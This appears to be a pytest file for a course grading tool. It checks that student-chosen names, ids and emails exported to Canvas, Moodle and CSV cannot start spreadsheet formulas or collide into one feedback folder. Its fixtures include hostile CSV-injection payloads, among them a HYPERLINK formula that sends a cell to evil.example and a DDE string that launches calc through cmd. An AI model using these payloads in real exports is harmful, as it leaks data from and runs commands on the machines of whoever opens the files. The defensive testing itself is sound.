"""What a student sets (their name, id and email in Gradescope) reaches the instructor's files as
data only: two ids that clean to one folder name get a folder each (the feedback of neither is
lost), and no exported CSV cell starts a spreadsheet formula. Made as an attacker would."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner, Result

from grader.cli import main
from tests.batchkit import toy

RIGHT = json.dumps(toy(note="right"))  # 5 points
WRONG = json.dumps(toy(scale="out = v * 2.0", note="wrong"))  # 2 points
FORMULA = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what starts a formula in a spreadsheet
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PEOPLE = [  # (name, sid, email, notebook)
    (HYPERLINK, "5501", "alice@uni.edu", RIGHT),
    ("Mallory", "5501.", "mallory@uni.edu", WRONG),
    ("\tTab;=1+1", DDE, "+1+1@uni.edu", WRONG),
    ("@SUM(A1:A9)", "-7", "-x@uni.edu", RIGHT),
]


def _cli(*args: str | Path) -> Result:
    res = CliRunner().invoke(main, list(map(str, args)))
    assert res.exit_code == 0, res.output
    return res


def _export(tmp: Path) -> Path:
    """A Gradescope export whose submitters chose their names, sids and emails."""
    root = tmp / "export"
    meta = []
    for i, (name, sid, email, notebook) in enumerate(PEOPLE, 1):
        (root / f"submission_{i}").mkdir(parents=True)
        (root / f"submission_{i}" / "Toy.ipynb").write_text(notebook)
        meta.append(
            f"submission_{i}:\n  :submitters:\n  - :name: {json.dumps(name)}\n    :sid: {json.dumps(sid)}\n"
            f"    :email: {json.dumps(email)}\n  :created_at: 2024-09-30 1{i}:00:00.000000000 +00:00\n"
        )
    (root / "submission_metadata.yml").write_text("".join(meta))
    return root


def _graded(tmp: Path) -> Path:
    out = tmp / "out"
    _cli("run", _export(tmp), "--fast", "-j", "1", "--output", out)
    return out


def test_ids_that_clean_alike_get_a_folder_each(toy_root: Path, tmp_path: Path) -> None:
    out, back = _graded(tmp_path), tmp_path / "returned"
    res = _cli("feedback", out, "--to", back)
    assert f"wrote {len(PEOPLE)} student folders" in res.stdout
    folders = sorted(back.iterdir())
    assert len(folders) == len(PEOPLE)
    owners = {json.loads((f / "grades.json").read_text())["student"]: f.name for f in folders}
    assert set(owners) == {sid for _, sid, _, _ in PEOPLE}
    assert owners["5501"] == "5501" and owners["5501."].startswith("5501-")
    scores = {s: json.loads((back / f / "toy.json").read_text())["score"] for s, f in owners.items()}
    assert scores == {"5501": 5.0, "5501.": 2.0, DDE: 2.0, "-7": 5.0}  # each their own report


def test_folder_names_are_unique_ignoring_case_and_stable() -> None:
    from grader.course.feedback import folder_names

    ids = ["Alice", "alice", "a/b", "a_b", "feedback", "..", "x" * 300]
    names = folder_names(ids)
    assert len({n.casefold() for n in names.values()}) == len(ids)
    assert names["a_b"] == "a_b" and names["a/b"] != "a_b" and names["feedback"] != "feedback"
    assert names == folder_names(reversed(ids)) and folder_names(["a/b"])["a/b"] == names["a/b"]
    assert all("/" not in n and n not in (".", "..") and len(n) <= 100 for n in names.values())


def _cells(text_: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_)))


def test_no_exported_cell_starts_a_formula(toy_root: Path, tmp_path: Path) -> None:
    out = _graded(tmp_path)
    files = {}
    for to in ("canvas", "moodle", "csv"):
        files[to] = Path(_cli("export", out, "--to", to).stdout.split("wrote ", 1)[1].strip()).read_text()
    _cli("export", out, "--csv", tmp_path / "files.csv")
    files["files"] = (tmp_path / "files.csv").read_text()
    keys = {"canvas": {1, 2, 3}, "moodle": {0, 1}, "csv": set(), "files": set()}  # ids the LMS matches on
    for to, body in files.items():
        for row in _cells(body)[1:]:
            for i, cell in enumerate(row):
                if cell.startswith(FORMULA):
                    assert i in keys[to] and cell in ("-7", "+1+1@uni.edu", "-x@uni.edu"), (to, row)
    canvas = {r[0]: r for r in _cells(files["canvas"])[2:]}
    assert canvas["'" + HYPERLINK][1] == "5501" and canvas["'" + HYPERLINK][5] == "5"  # ID, score as is
    assert canvas["'\tTab;=1+1"][3] == "+1+1@uni.edu"  # a plain login: still matches
    moodle = {r[2]: r for r in _cells(files["moodle"])[1:]}
    assert moodle["'@SUM(A1:A9)"][:2] == ["-7", "-x@uni.edu"] and moodle["Mallory"][3] == "2"
    assert moodle["'\tTab;=1+1"][0] == "'" + DDE  # no Moodle id looks like this: neutralised
    students = {r[0]: r for r in _cells(files["csv"])[1:]}
    assert set(students) == {"5501", "5501.", "'" + DDE, "'-7"} and students["5501"][4] == "5"
    assert "'\tTab;=1+1" in files["canvas"].replace('"', "")  # quoted: the ';' never splits a cell


def test_cells_neutralise_text_and_keep_numbers_and_plain_ids() -> None:
    from grader.course.cells import key, rows, text

    assert text("=1+1") == "'=1+1" and text("\rx") == "'\rx" and text("Ann") == "Ann"
    assert key("-7") == "-7" and key("+1+1@uni.edu") == "+1+1@uni.edu" and key(DDE) == "'" + DDE
    assert rows([["5", text("a,b"), text('say "hi"'), "x"]]) == '5,"a,b","say ""hi""",x\n'
